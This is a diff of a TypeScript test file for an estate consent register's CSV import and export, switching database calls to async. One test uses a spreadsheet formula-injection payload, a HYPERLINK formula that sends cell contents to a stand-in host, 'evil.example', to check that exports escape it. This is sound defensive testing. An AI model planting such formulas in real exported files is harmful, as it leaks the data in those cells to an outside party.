@@ -6,14 +6,15 @@ import { addUser } from '../../server/auth/manage-users.ts';
 import { consentEvents, flats, stairwells } from '../../server/db/schema.ts';
 import { sessionCookieFor } from '../support/sign-in.ts';
 import { startTestServer, type TestServer } from '../support/test-server.ts';
+import { first } from '../../server/db/database.ts';
 
 let server: TestServer;
 let staff: string;
 let viewer: string;
 beforeAll(async () => {
   server = await startTestServer();
-  staff = await sessionCookieFor(server.url, 'li', addUser(server.db, 'li', 'planner'));
-  viewer = await sessionCookieFor(server.url, 'guest', addUser(server.db, 'guest', 'viewer'));
+  staff = await sessionCookieFor(server.url, 'li', await addUser(server.db, 'li', 'planner'));
+  viewer = await sessionCookieFor(server.url, 'guest', await addUser(server.db, 'guest', 'viewer'));
 });
 afterAll(() => server.close());
 
@@ -25,9 +26,9 @@ const upload = async (bytes: Uint8Array, name: string, dryRun: boolean) => {
   });
   return { status: res.status, body: (await res.json()) as { ok: boolean; encoding: string; problems?: string[]; changes?: { doorNumber: string; room: string; fields: string[] }[]; unchanged?: number } };
 };
-const eventCount = () => server.db.select({ n: count() }).from(consentEvents).get()!.n;
-const statusOf = (door: string, room: string) =>
-  server.db.select({ status: flats.status }).from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room))).get()!.status;
+const eventCount = async () => (await first(server.db.select({ n: count() }).from(consentEvents)))!.n;
+const statusOf = async (door: string, room: string) =>
+  (await first(server.db.select({ status: flats.status }).from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room)))))!.status;
 
 describe('the register in and out', () => {
   it('exports XLSX that imports back with no changes', async () => {
@@ -55,16 +56,16 @@ describe('the register in and out', () => {
     const [door, , room] = lines[target]!.split(',');
     lines[target] = lines[target]!.replace(',unvisited,', ',signed,');
     const gbk = iconv.encode(lines.join('\r\n'), 'gbk');
-    const before = eventCount();
+    const before = await eventCount();
     const dry = await upload(gbk, '名册.csv', true);
     expect(dry.body.encoding).toBe('gbk');
     expect(dry.body.changes).toEqual([expect.objectContaining({ doorNumber: door, room, fields: ['status'] })]);
-    expect(statusOf(door!, room!)).toBe('unvisited');
-    expect(eventCount()).toBe(before);
+    expect(await statusOf(door!, room!)).toBe('unvisited');
+    expect(await eventCount()).toBe(before);
     const applied = await upload(gbk, '名册.csv', false);
     expect(applied.body.ok).toBe(true);
-    expect(statusOf(door!, room!)).toBe('signed');
-    expect(eventCount()).toBe(before + 1);
+    expect(await statusOf(door!, room!)).toBe('signed');
+    expect(await eventCount()).toBe(before + 1);
   });
 
   it('reports every bad row with row number and column, and changes nothing', async () => {
@@ -72,18 +73,18 @@ describe('the register in and out', () => {
     const lines = (await res.text()).split('\r\n');
     lines[2] = lines[2]!.replace(/^长风二村 1号,/, '长风二村 999号,');
     lines[5] = lines[5]!.replace(/,(\d+\.\d+|),/, ',很大,');
-    const firstStatus = statusOf('长风二村 1号', '101');
+    const firstStatus = await statusOf('长风二村 1号', '101');
     lines[1] = lines[1]!.replace(/,(unvisited|undecided|intent|signed|abstain|opposed|unreachable),/, ',opposed,');
-    const before = eventCount();
+    const before = await eventCount();
     const bad = await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false);
     expect(bad.status).toBe(422);
     expect(bad.body.problems).toContain('register.csv row 6, column areaM2: expected an area in m² such as 45.67');
-    expect(eventCount()).toBe(before);
-    expect(statusOf('长风二村 1号', '101')).toBe(firstStatus);
+    expect(await eventCount()).toBe(before);
+    expect(await statusOf('长风二村 1号', '101')).toBe(firstStatus);
     // With the cells fixed, the unknown door is still named by its row.
     const rest = await upload(Buffer.from([lines[0], lines[2]].join('\r\n')), 'register.csv', false);
     expect(rest.body.problems).toEqual(['row 2, column doorNumber: no stairwell 长风二村 999号 in this estate']);
-    expect(eventCount()).toBe(before);
+    expect(await eventCount()).toBe(before);
   });
 
   it('keeps the register from viewers and strangers', async () => {
@@ -103,17 +104,17 @@ describe('a register re-imported after the campaign moved on', () => {
     const door = cells[col('门牌号')]!;
     const room = cells[col('室号')]!;
     // Meanwhile a canvasser records a signature on that flat.
-    const flat = server.db.select().from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room))).get()!.flats;
-    server.db.update(flats).set({ status: 'signed', version: flat.version + 1 }).where(eq(flats.id, flat.id)).run();
+    const flat = (await first(server.db.select().from(flats).innerJoin(stairwells, eq(stairwells.id, flats.stairwellId)).where(and(eq(stairwells.doorNumber, door), eq(flats.room, room)))))!.flats;
+    (await server.db.update(flats).set({ status: 'signed', version: flat.version + 1 }).where(eq(flats.id, flat.id)));
     // The committee edits the morning's file: a new note on that row.
     cells[col('备注')] = '电话确认过';
     lines[target] = cells.join(',');
-    const before = eventCount();
+    const before = await eventCount();
     const res = await upload(Buffer.from(lines.join('\r\n')), 'register.csv', false);
     expect(res.status).toBe(422);
     expect(res.body.problems!.join('\n')).toMatch(new RegExp(`row ${target + 1}: ${door} ${room} changed since this file was exported \\(version ${flat.version} in the file, ${flat.version + 1} now; now signed\\)`));
-    expect(statusOf(door, room)).toBe('signed');
-    expect(eventCount()).toBe(before);
+    expect(await statusOf(door, room)).toBe('signed');
+    expect(await eventCount()).toBe(before);
     // Cleared 版本 cell: the committee means to overwrite.
     cells[col('版本')] = '';
     cells[col('状态')] = 'signed';
@@ -123,8 +124,8 @@ describe('a register re-imported after the campaign moved on', () => {
 
   it('writes a note that looks like a formula as text, and reads it back unchanged', async () => {
     const attack = '=HYPERLINK("http://evil.example/?"&F2&G2,"点此")';
-    const f = server.db.select().from(flats).get()!;
-    server.db.update(flats).set({ note: attack }).where(eq(flats.id, f.id)).run();
+    const f = (await first(server.db.select().from(flats)))!;
+    (await server.db.update(flats).set({ note: attack }).where(eq(flats.id, f.id)));
     const csv = await (await fetch(`${server.url}/api/estates/1/register.csv`, { headers: { cookie: staff } })).text();
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
     expect(csv).toContain(`'=HYPERLINK`);
